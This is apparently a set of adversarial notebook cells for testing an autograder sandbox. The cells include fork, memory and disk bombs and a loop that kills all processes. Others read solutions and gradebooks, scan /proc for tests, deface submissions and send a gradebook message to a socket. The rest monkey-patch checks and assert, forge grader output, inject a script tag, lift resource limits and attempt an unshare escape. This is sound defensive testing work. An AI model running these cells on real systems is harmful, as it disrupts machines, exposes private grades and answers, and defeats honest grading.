# Cells of students who want points, or the instructor's files, without doing the exercises. Each is put behind the
# import cell of an otherwise untouched notebook. ROOT, COURSE, PORT and NAMES stand for the checkout, the course
# folder, a port on which somebody listens, and the names of the answers.

# %% infinite loop
while True:
    pass

# %% infinite loop that swallows interrupts
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% fork bomb
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %% process bomb
import subprocess

children = [subprocess.Popen(["sleep", "60"]) for _ in range(1000)]

# %% memory bomb
hoard = []
while True:
    hoard.append(bytearray(b"x" * 10**7))

# %% 1 GB of output
for _ in range(1000):
    print("x" * 10**6)

# %% 1 GB of output past Python
import os

for descriptor in range(10):
    try:
        for _ in range(1000):
            os.write(descriptor, b"x" * 10**6)
    except OSError:
        pass

# %% fills the disk
import os

for number in range(100):
    with open(f"/tmp/{number}", "wb") as file:
        for _ in range(100):
            file.write(os.urandom(10**6))

# %% reads the solution and the gradebook
import glob
import os

found = []
for place in ("ROOT/notebooks/solutions/*", "ROOT/tests/lessons/*/answers.py", "COURSE/*", "COURSE/*/*/*", "/course/*"):
    for path in glob.glob(place):
        try:
            found.append(open(path, "rb").read())
        except OSError:
            pass
print("read:", [text for text in found if b"SOLUTION" in text or b"SQLite" in text])
print("home:", os.listdir(os.path.expanduser("~root")) if os.path.isdir(os.path.expanduser("~root")) else None)

# %% looks for tests in other processes
import glob
import sys

found = []
for path in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ") + glob.glob("/proc/*/maps"):
    try:
        found.append(open(path, "rb").read())
    except OSError:
        pass
print("read:", [text for text in found if b"pytest" in text or b"step-zero" in text])
frame = sys._getframe()
while frame:
    print("HIDDEN" in str(frame.f_locals.get("source", "")))
    frame = frame.f_back

# %% writes another's submission
import glob
import os

for place in ("COURSE/submitted", "COURSE/autograded", "/course/helpers", "/usr/bin"):
    os.makedirs(place, exist_ok=True)
    with open(os.path.join(place, "defaced"), "w") as file:
        file.write("defaced")
for path in glob.glob("COURSE/submitted/*/*/*.ipynb"):
    open(path, "w").write("defaced")

# %% opens a socket
import socket

socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"here is the gradebook")

# %% sends a name to the net
import socket

socket.getaddrinfo("example.org", 80)

# %% replaces the checks
import helpers.exercise as base

base.Exercise.insist = lambda *_, **__: None
base.Exercise.judge = lambda *_, **__: base.Verdict("✓", "all right")
base.compare = base.call = base.array_of = lambda *_, **__: None
for name, value in vars(check).items():
    if isinstance(value, base.Exercise):
        setattr(check, name, lambda *_, **__: print("✓"))

# %% replaces assert
import builtins


class Never(BaseException):
    def __new__(cls, *_):
        return None


builtins.AssertionError = builtins.Exception = builtins.abs = Never
import numpy as np

np.isfinite = np.abs = np.all = lambda *_, **__: np.True_


# %% answers with objects that equal everything
class Everything(float):
    def __eq__(self, other):
        return True

    def __le__(self, other):
        return True

    __lt__ = __ge__ = __gt__ = __le__
    __hash__ = float.__hash__

    def __getattr__(self, name):
        return self

    def __call__(self, *_, **__):
        return self

    def __array__(self, *_, **__):
        return np.array(self)


for name in NAMES:
    globals()[name] = Everything()

# %% leaves in the middle
import os

os._exit(0)

# %% raises SystemExit
raise SystemExit(0)

# %% kills everything in sight
import os
import signal

for process in range(2, 40000):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)

# %% speaks in the worker's place
import json
import os

for descriptor in range(3, 20):
    try:
        for _ in range(200):
            os.write(descriptor, json.dumps({"outputs": [], "value": 0, "points": 10}).encode() + b"\n")
    except OSError:
        pass

# %% answers with a flood
import os

for descriptor in range(3, 20):
    try:
        while True:
            os.write(descriptor, b"[" * 10**6)
    except OSError:
        pass

# %% writes what a browser would run
from IPython.display import HTML, Javascript, display

display(HTML("<script>alert('hostile')</script>"), Javascript("alert('hostile')"))
print("<script>alert('hostile')</script>")

# %% takes off its limits
import resource

for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):
    resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))

# %% makes a sandbox of its own
import ctypes

flags = 0x10000000 | 0x00020000  # CLONE_NEWUSER, CLONE_NEWNS
print("left:", ctypes.CDLL(None, use_errno=True).unshare(flags) == 0)
